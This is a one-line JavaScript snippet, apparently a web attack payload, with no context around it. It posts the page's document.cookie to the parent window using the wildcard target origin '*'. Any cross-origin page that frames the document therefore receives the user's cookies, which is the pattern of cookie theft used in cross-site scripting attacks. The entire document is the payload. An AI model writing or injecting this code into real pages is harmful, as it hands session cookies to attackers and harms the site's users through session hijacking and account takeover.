parent.postMessage({ c: document.cookie }, '*');
